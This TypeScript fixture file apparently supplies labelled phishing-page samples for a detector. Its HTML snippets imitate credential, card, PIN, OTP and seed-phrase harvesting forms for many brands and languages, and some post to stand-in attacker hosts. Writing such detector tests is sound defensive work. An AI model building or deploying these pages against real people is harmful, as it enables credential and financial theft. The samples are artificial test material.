/** Pages as kits build them, by kind of host, of form and of wording; none is a copy of a page in circulation. */
import type { PageExample } from './honest-sites.ts';

const post = (script: string, more = ''): string =>
  `<form action="${script}" method="post">${more}<input name="email" placeholder="Email or phone"><input type="password" name="pass" placeholder="Password"><button>Log In</button></form>`;
const address = (name: string, street: string, place: string, next: string): string =>
  `<form action="a.php" method="post"><input placeholder="${name}"><input placeholder="${street}"><input placeholder="${place}"><input type="tel" name="t"><button>${next}</button></form>`;
const step = (label: string, next: string): string =>
  `<form method="post"><input type="password" name="p" placeholder="${label}"><button>${next}</button></form>`;
const ADDRESS = 'http://203.0.113.80/';
const FREE = 'https://kqz-31.web.app/';
const HACKED = 'https://blumenhaus.example/wp-content/plugins/x9/';
const STRANGER = 'https://kqz-7d2.top/';

// oxfmt-ignore
export const NAMING_KITS: PageExample[] = [
  ['followers for nothing', STRANGER, `<title>Get free Instagram followers</title><h1>Instagram Followers</h1><p>Log in with your Instagram account to receive 5000 followers.</p>${post('login.php')}`],
  ['a badge for nothing', STRANGER, `<title>Verified badge</title><p>Instagram verification. Enter your username and password to get your badge.</p>${post('post.php')}<p>© Instagram from Meta</p>`],
  ['a vote that asks to log in', STRANGER, `<title>Vote for Anna</title><h1>Vote for Anna</h1><p>To vote, log in with your Facebook account</p>${post('login.php')}`],
  ['a slogan in the title', STRANGER, `<title>Spotify - Web Player: Music for everyone</title>${post('login.php')}`],
  ['a bank’s slogan in the title', STRANGER, `<title>Wells Fargo Bank | Financial Services & Online Banking</title><h1>Welcome</h1>${post('next.php')}`],
  ['a saved page', STRANGER, `<title>Sign In</title><img src="Sign%20In%20-%20Spotify_files/spotify-full.png">${post('login.php')}`],
  ['a hosted blog’s sign-in', STRANGER, `<title>Log In — WordPress.com</title><h1>Log in to your account</h1>${post('login.php')}`],
  ['a hosted blog’s sign-in by its product’s name', STRANGER, `<title>WordPress › Log In</title><img alt="WordPress" src="logo.png">${post('login.php')}`],
  ['a forge’s sign-in', STRANGER, `<title>Sign in · GitLab</title><h1>GitLab</h1>${post('login.php')}`],
  ['a game maker’s in two names', STRANGER, `<title>Sign In</title><h1>Sign in to PlayStation Network</h1>${post('login.php')}<p>© 2024 Sony Interactive Entertainment LLC</p>`],
  ['a console by its maker’s fields', STRANGER, `<title>Sign in to your Microsoft account</title><h1>Sign in</h1><p>to continue to Xbox</p><form action="login.php" method="post"><input name="loginfmt"><input type=password name="passwd"><button>Next</button></form>`],
  ['a short name', STRANGER, `<title>VK | Welcome!</title><img alt="VK" src="vk.svg"><h1>VK for mobile devices</h1>${post('login.php')}<p>VK © 2024</p>`],
  ['a carrier that wants a fee', STRANGER, `<title>DHL Express | Track</title><img alt="DHL" src="dhl-logo.svg"><h1>Your parcel is on hold</h1><p>Pay 1.99 to release it.</p><form action="pay.php" method="post"><label>Card number <input name=cc autocomplete="cc-number"></label><label>CVV <input name=cvv></label><button>Pay</button></form>`],
  ['a toll that was not paid', FREE, `<title>E-ZPass – unpaid toll</title><h1>E-ZPass</h1><p>Outstanding amount 6.99</p><form action="pay.php" method="post"><label>Card number <input autocomplete="cc-number"></label><button>Pay now</button></form>`],
  ['a wallet to restore', STRANGER, `<title>Connect wallet</title><img alt="MetaMask" src="mm.svg"><h1>Restore your wallet</h1><form action="send.php" method="post"><textarea name="phrase" placeholder="Enter your 12-word recovery phrase"></textarea><button>Restore</button></form>`],
  ['a code of a messenger', STRANGER, `<title>WhatsApp Web</title><h1>Enter the 6-digit code</h1><form action="code.php" method="post"><input name="otp" maxlength="6"><button>Verify</button></form>`],
  ['a brand on no list of platforms', STRANGER, `<title>Ubisoft Connect - Log in</title><h1>Log in to Ubisoft Connect</h1>${post('login.php')}`],
  ['a Dutch page that says Microsoft once', STRANGER, `<title>Aanmelden</title><h1>Aanmelden</h1><p>bij uw Microsoft-account</p><form action="volgende.php" method="post"><input type="email" name="e"><input type=password name=p><button>Volgende</button></form>`],
  ['a host that bears the name', 'https://netflix-billing.example/', `<title>Account</title><h1>Update your payment</h1><p>Your Netflix membership is on hold.</p>${post('/session')}`],
  ['a host that bears it, and its logo', 'https://paypal-resolution.example/', `<title>Resolution</title><img alt="PayPal" src="p.svg">${post('/session')}`],
  ['a host one letter off', 'https://instagrarn.example/', `<title>Help</title><p>Enter your Instagram password.</p>${post('/session')}`],
  ['another suffix of the brand', 'https://coinbase.me/', `<title>Coinbase - Sign in</title><h1>Sign in to Coinbase</h1>${post('login.php')}`],
  // What asks for no secret yet.
  ['an address for a parcel', STRANGER, `<title>PostNL | Track & Trace</title><h1>Uw pakket wacht</h1><p>Het adres is onvolledig.</p>${address('Naam', 'Straat', 'Postcode', 'Volgende')}`],
  ['the same in French', STRANGER, `<title>Chronopost - Suivi de colis</title><h1>Votre colis est en attente</h1><p>Adresse de livraison incomplète</p>${address('Nom', 'Adresse', 'Code postal', 'Suivant')}`],
  ['the same in Japanese', STRANGER, `<title>日本郵便</title><h1>再配達のお手続き</h1><p>住所不備のためお荷物をお届けできません</p>${address('お名前', '住所', '郵便番号', '次へ')}`],
  ['a carrier whose name is an abbreviation', STRANGER, `<title>DPD Paketverfolgung</title><img alt="DPD" src="d.png"><h1>Ihre Sendung konnte nicht zugestellt werden</h1>${address('Name', 'Straße', 'PLZ', 'Weiter')}`],
  ['an appeal', FREE, `<title>Privacy Center</title><h1>Facebook Privacy Center</h1><p>Your account will be disabled.</p>${address('Full name', 'Facebook page name', 'Date of birth', 'Send')}`],
  ['an appeal by a name', STRANGER, `<title>TikTok - Verified badge request</title><h1>Request a badge</h1><p>Your account is eligible.</p>${address('Full name', 'TikTok username', 'Date of birth', 'Next')}`],
  ['a refund', STRANGER, `<title>Internal Revenue Service | Claim refund</title><h1>Claim your refund</h1>${address('Full name', 'Social Security number', 'Address', 'Continue')}`],
  ['a vote by a messenger', STRANGER, `<title>Votação</title><h1>Vote na Sofia</h1><p>Para votar, conecte seu WhatsApp.</p><form action="v.php" method="post"><input type="tel" placeholder="Telefone"><button>Votar</button></form>`],
  ['a document for a mail address', FREE, `<title>OneDrive for Business</title><p>Contract.pdf</p><p>Verify your email to view this file</p><form action="v.php" method="post"><input type="email" placeholder="Email"><button>View</button></form>`],
  ['a customer’s number of a bank', STRANGER, `<title>Rabobank - Inloggen</title><p>Vervang uw lezer</p><form action="n.php" method="post"><input placeholder="IBAN"><input placeholder="Pasnummer"><button>Volgende</button></form>`],
  // Names in other scripts.
  ['a name and its act in one word', STRANGER, `<title>微信登录</title><h1>微信安全中心</h1>${post('l.php')}`],
  ['a name in two scripts', STRANGER, `<title>登录QQ邮箱</title>${post('l.php')}`],
  ['a Korean portal', STRANGER, `<title>NAVER : 로그인</title>${post('l.php')}`],
  // Steps of a sign-in in further languages, on a page that names nobody else.
  ['a Finnish password step', STRANGER, `<title>Kirjaudu sisään</title><h1>Anna salasana</h1><p>Kirjaudu Microsoft-tiliisi</p>${step('Salasana', 'Kirjaudu')}`],
  ['a Czech one', STRANGER, `<title>Přihlášení</title><h1>Zadejte heslo</h1><p>Přihlaste se k účtu Google</p>${step('Heslo', 'Další')}`],
  ['a Hungarian one', STRANGER, `<title>Bejelentkezés</title><h1>Üdvözöljük</h1><p>Jelentkezzen be Google-fiókjába</p>${step('Jelszó', 'Tovább')}`],
  ['a Turkish one', STRANGER, `<title>Oturum aç</title><h1>Parola girin</h1><p>Microsoft hesabınızda oturum açın</p>${step('Parola', 'Oturum aç')}`],
  ['a Ukrainian one', STRANGER, `<title>Вхід</title><h1>Введіть пароль</h1><p>Увійдіть у свій обліковий запис Google</p>${step('Пароль', 'Далі')}`],
  ['a Bulgarian one', STRANGER, `<title>Вход</title><h1>Добре дошли</h1><p>Влезте в профила си в Google</p>${step('Парола', 'Напред')}`],
  ['an Arabic one', STRANGER, `<title>تسجيل الدخول</title><h1>أدخل كلمة المرور</h1><p>تسجيل الدخول إلى حسابك في Microsoft</p>${step('كلمة المرور', 'التالي')}`],
  ['a Hebrew one', STRANGER, `<title>כניסה</title><h1>הזן סיסמה</h1><p>היכנס לחשבון Google שלך</p>${step('סיסמה', 'הבא')}`],
  ['a Hindi one', STRANGER, `<title>साइन इन करें</title><h1>आपका स्वागत है</h1><p>अपने Google खाते में साइन इन करें</p>${step('पासवर्ड', 'आगे')}`],
  ['a Thai one', STRANGER, `<title>ลงชื่อเข้าใช้</title><h1>ยินดีต้อนรับ</h1><p>ลงชื่อเข้าใช้บัญชี Google ของคุณ</p>${step('รหัสผ่าน', 'ถัดไป')}`],
  ['a Vietnamese one', STRANGER, `<title>Đăng nhập</title><h1>Nhập mật khẩu</h1><p>Đăng nhập vào tài khoản Google của bạn</p>${step('Mật khẩu', 'Tiếp theo')}`],
  ['an Indonesian one', STRANGER, `<title>Masuk</title><h1>Selamat datang</h1><p>Masuk ke akun Google Anda</p>${step('Sandi', 'Berikutnya')}`],
  ['a Romanian one', STRANGER, `<title>Conectare</title><h1>Introduceți parola</h1><p>Conectați-vă la contul Microsoft</p>${step('Parolă', 'Conectare')}`],
  ['a Japanese one', STRANGER, `<title>サインイン</title><h1>パスワードの入力</h1><p>Microsoft アカウントにサインイン</p>${step('パスワード', '次へ')}`],
  ['a Chinese one', STRANGER, `<title>登录</title><h1>输入密码</h1><p>登录您的 Microsoft 帐户</p>${step('密码', '登录')}`],
  ['a word for a name, in a folder of software', HACKED, `<title>Amazon Sign-In</title><h1>Sign in</h1>${post('')}`],
  ['a form builder’s page that is called Form', 'https://form.jotform.com/240000', `<title>Form</title><h1>Verify your account</h1><p>Sign in to your Microsoft account to go on.</p><form><label>Email <input name="e"></label><label>Password <input name="p"></label><button>Submit</button></form>`],
  // Ordinary words, with their trade beside them.
  ['a meeting', STRANGER, `<title>Zoom | Join meeting</title><h1>Sign in to join the meeting</h1>${post('z.php')}`],
  ['an exchange', STRANGER, `<title>Kraken | Security check</title><h1>Confirm your withdrawal</h1>${post('k.php')}`],
  ['a wallet', STRANGER, `<title>Exodus</title><h1>Restore</h1><form action="e.php" method="post"><textarea placeholder="Private key or 12 word phrase"></textarea><button>Restore</button></form>`],
  ['a firm’s own mail server, on free hosting', FREE, `<title>Outlook Web App</title><form action="o.php" method="post"><input placeholder="Domain\\user name"><input type=password name=p placeholder="Password"><button>Sign in</button></form><p>© 2010 Microsoft Corporation</p>`],
  // Little but the name.
  ['a cloud’s name in the title alone', FREE, `<title>Dropbox</title><h2>Your file is ready</h2>${post('')}`],
  ['an exchange’s', STRANGER, `<title>Binance</title><h1>Log In</h1>${post('')}`],
  ['a signing service’s, on free hosting', FREE, `<title>DocuSign</title><h2>Review your document</h2>${post('')}`],
  ['a messenger’s, for a number', STRANGER, `<title>WhatsApp</title><h1>Link with phone number</h1><form><input type="tel" placeholder="Phone number"><button>Next</button></form>`],
  ['a messenger’s in Russian', STRANGER, `<title>Telegram</title><h1>Войти в Telegram</h1><form><input type="tel" placeholder="Номер телефона"><button>Далее</button></form>`],
  ['a streaming service’s, for a card', STRANGER, `<title>Netflix</title><h1>Update your payment</h1><form action="/p"><input autocomplete="cc-number" placeholder="Card number"><button>Save</button></form>`],
  ['a code for an exchange', STRANGER, `<title>Coinbase</title><h1>Enter the code</h1><form action="/c"><input autocomplete="one-time-code"><button>Verify</button></form>`],
  ['a carrier’s fee in Dutch', STRANGER, `<title>PostNL</title><h1>Betaal de kosten voor uw pakket</h1><form action="/p"><input autocomplete="cc-number" placeholder="Kaartnummer"><button>Betalen</button></form>`],
  ['a drawn logo', STRANGER, `<svg role="img" aria-label="Spotify"></svg><h1>Log in</h1>${post('')}`],
  ['letters in a drawing', STRANGER, `<title>Log in</title><svg role="img"><text>facebook</text></svg>${post('')}`],
  // In disguise.
  ['digits for letters', STRANGER, `<title>N3tfl1x</title><h1>N3tfl1x</h1>${post('')}`],
  ['one digit in an ordinary word', STRANGER, `<title>Amaz0n</title><h1>Sign in</h1>${post('login.php')}`],
  ['dots between the letters', STRANGER, `<title>P.a.y.P.a.l</title>${post('')}`],
  ['letters turned round', STRANGER, `<h1>moc.tfosorciM</h1><h2>tfosorciM</h2>${post('login.php')}`],
  // The step that lets in by one account alone.
  ['an account to use', STRANGER, `<title>Sign in</title><h1>Sign in</h1><p>Use your Google Account</p><form><input type="email" aria-label="Email or phone"><button>Next</button></form>`],
  ['the same in French', STRANGER, `<title>Connexion</title><h1>Connexion</h1><p>Utiliser votre compte Google</p><form><input type="email"><button>Suivant</button></form>`],
  ['the same in Japanese, with a password', STRANGER, `<title>ログイン</title><p>Google アカウントを使用</p>${step('パスワード', '次へ')}`],
  ['a logo by the name of its file alone, in one word', STRANGER, `<title>Sign in</title><img src="img/netflixlogo_2x.png">${post('in.php')}`],
  ['a logo through a server that makes it smaller', FREE, `<title>Sign in</title><img src="/_next/image?url=%2Fspotify-logo.png&w=256">${post('https://kqz-9.top/c')}`],
  ['a logo that an element is painted with', STRANGER, `<title>Sign in</title><div style="background:url(img/paypal_logo.svg)"></div>${post('in.php')}`],
  ['a first step below a logo', STRANGER, '<title>Sign in</title><img alt="Netflix" src="1.svg"><h1>Sign in</h1><form><input placeholder="Email or phone"><button>Next</button></form>'],
  ['a greeting above a logo', STRANGER, `<title>Sign in</title><img src="img/netflix-logo.png"><h1>Moin!</h1>${post('in.php')}`],
  ['a bank’s full name before the sign of copyright', STRANGER, `<title>Questions</title><h1>Security Questions</h1>${post('in.php')}<p>Royal Bank of Canada Website, © 1995-2026</p>`],
  ['a carrier by an abbreviation and its own pictures', STRANGER, '<title>Śledzenie</title><img src="https://www.dhl.com/img/dhl-logo.svg"><h2>Twoja paczka czeka na dopłatę 3 zł</h2><form><input placeholder="Numer karty"><input placeholder="MM/RR"><input placeholder="CVV"><button>Zapłać</button></form>'],
];

// oxfmt-ignore
export const NAMELESS_KITS: PageExample[] = [
  ['a document on an address', ADDRESS, `<title>View document</title><h1>Sign in to view the document</h1>${post('post.php')}`],
  ['a voicemail on free hosting', FREE, `<title>Voicemail</title><h1>You have a new voice message</h1><p>Sign in with your email to listen.</p>${post('https://kqz-9.top/p.php')}`],
  ['an invoice in a folder of somebody’s site', HACKED, `<title>Invoice</title><p>Your session has expired. Enter your email password to download the invoice.</p>${post('next.php')}`],
  ['a file share on free hosting', FREE, `<title>Shared file</title><h1>A file was shared with you</h1><p>Log in with your work or school account to open it.</p>${post('https://formhost-9.example/f/abc')}`],
  ['a mailbox that is full', FREE, `<title>Webmail</title><h1>Mailbox quota exceeded</h1><p>Confirm your email password to keep your mailbox.</p>${post('https://kqz-9.top/w.php')}`],
  ['the same in German', HACKED, `<title>Webmail</title><h1>Postfach voll</h1><p>Bestätigen Sie Ihr E-Mail-Passwort, um Ihr Postfach zu behalten.</p>${post('weiter.php')}`],
  ['the same in Spanish', ADDRESS, `<title>Documento</title><h1>Inicie sesión para ver el documento</h1>${post('post.php')}`],
  ['the same in Japanese', HACKED, `<title>文書</title><h1>文書を表示するにはログインしてください</h1>${post('login.php')}`],
  ['software for mail that sends to a script', STRANGER, `<title>Zimbra Web Client Sign In</title>${post('post.php')}<p>Copyright © 2005-2026 Synacor, Inc.</p>`],
  ['a full mailbox on a host of its own', STRANGER, `<title>Mailbox storage</title><h1>Your mailbox is 98% full</h1><p>Sign in to increase the quota.</p>${post('q.php')}`],
  ['an address filled in for the reader', HACKED, `<title>Sign in</title><form action="next.php" method="post"><input type=email name=email value="anna@fernbau.example"><input type=password name=p placeholder="Email password"><button>Sign in</button></form>`],
  ['a letter about pay on free hosting', FREE, `<title>Employee Self Service</title><h2>Salary adjustment</h2><p>Log in with your work email to review your salary letter.</p>${post('in.php')}`],
  ['a fax in French on an address', ADDRESS, `<title>Télécopie</title><h1>Connectez-vous pour afficher la télécopie</h1>${post('fx.php')}`],
  ['a wallet’s words in German', STRANGER, '<title>Wallet</title><h1>Gerät synchronisieren</h1><p>Geben Sie Ihre 24 Wörter ein.</p><textarea placeholder="Wort 1 Wort 2 Wort 3 …"></textarea><button>Weiter</button>'],
  ['a paper behind a mailbox’s password, in a name that nobody lists', FREE, `<title>Kornau Purchasing</title><h2>Purchase order PO-88123</h2><p>Enter your email password to download</p>${post('')}`],
  ['the reader’s house in a line', `${FREE}#anna@kornmuehle.example`, `<title>Excel Viewer</title><p>Kornmuehle</p>${step('Password', 'View')}`],
  ['two mailboxes and any other', FREE, `<title>Kornau Bids</title><h1>Sign in to view the document</h1><p>Office 365</p><p>Outlook</p><p>Other</p>${post('')}`],
  ['a mailbox that is to be updated, in Italian', FREE, '<title>Aggiornamento</title><h1>Aggiorna la tua casella</h1><form><input placeholder="E-mail"><input type="password" placeholder="Password"><button>Invia</button></form>'],
  ['a parcel that waits for money, handled by script', STRANGER, '<title>Kornau Post</title><h1>Pakken din er på vent</h1><p>Betal 29 kr i tollgebyr</p><form><input placeholder="Kortnummer"><input placeholder="CVC"><button>Betal</button></form>'],
  ['a card, its PIN and the telephone', STRANGER, '<title>Kornau</title><form action="f.php" method="post"><input placeholder="Nomor kartu ATM"><input placeholder="PIN ATM"><input placeholder="Nomor HP"><button>Kirim</button></form>'],
];
